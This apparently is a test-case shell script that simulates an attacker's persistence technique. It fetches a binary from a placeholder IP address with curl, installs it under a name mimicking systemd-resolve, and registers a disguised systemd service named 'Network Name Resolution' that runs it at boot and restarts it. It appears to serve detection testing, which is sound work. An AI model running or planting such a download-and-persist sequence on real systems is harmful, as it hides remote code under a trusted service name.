#!/bin/sh
. /opt/case/case.sh

mkdir -p /etc/systemd/system/multi-user.target.wants /usr/lib/systemd
curl -s -o /usr/lib/systemd/systemd-resolve http://203.0.113.10/programs/marker && chmod 755 /usr/lib/systemd/systemd-resolve
printf '[Unit]\nDescription=Network Name Resolution\nDocumentation=man:systemd-resolved.service(8)\n[Service]\nExecStart=!!/usr/lib/systemd/systemd-resolve\nRestart=always\n[Install]\nWantedBy=multi-user.target\n' >/etc/systemd/system/systemd-resolve.service
ln -s ../systemd-resolve.service /etc/systemd/system/multi-user.target.wants/
/usr/lib/systemd/systemd-resolve; test -e /tmp/reached
took_place
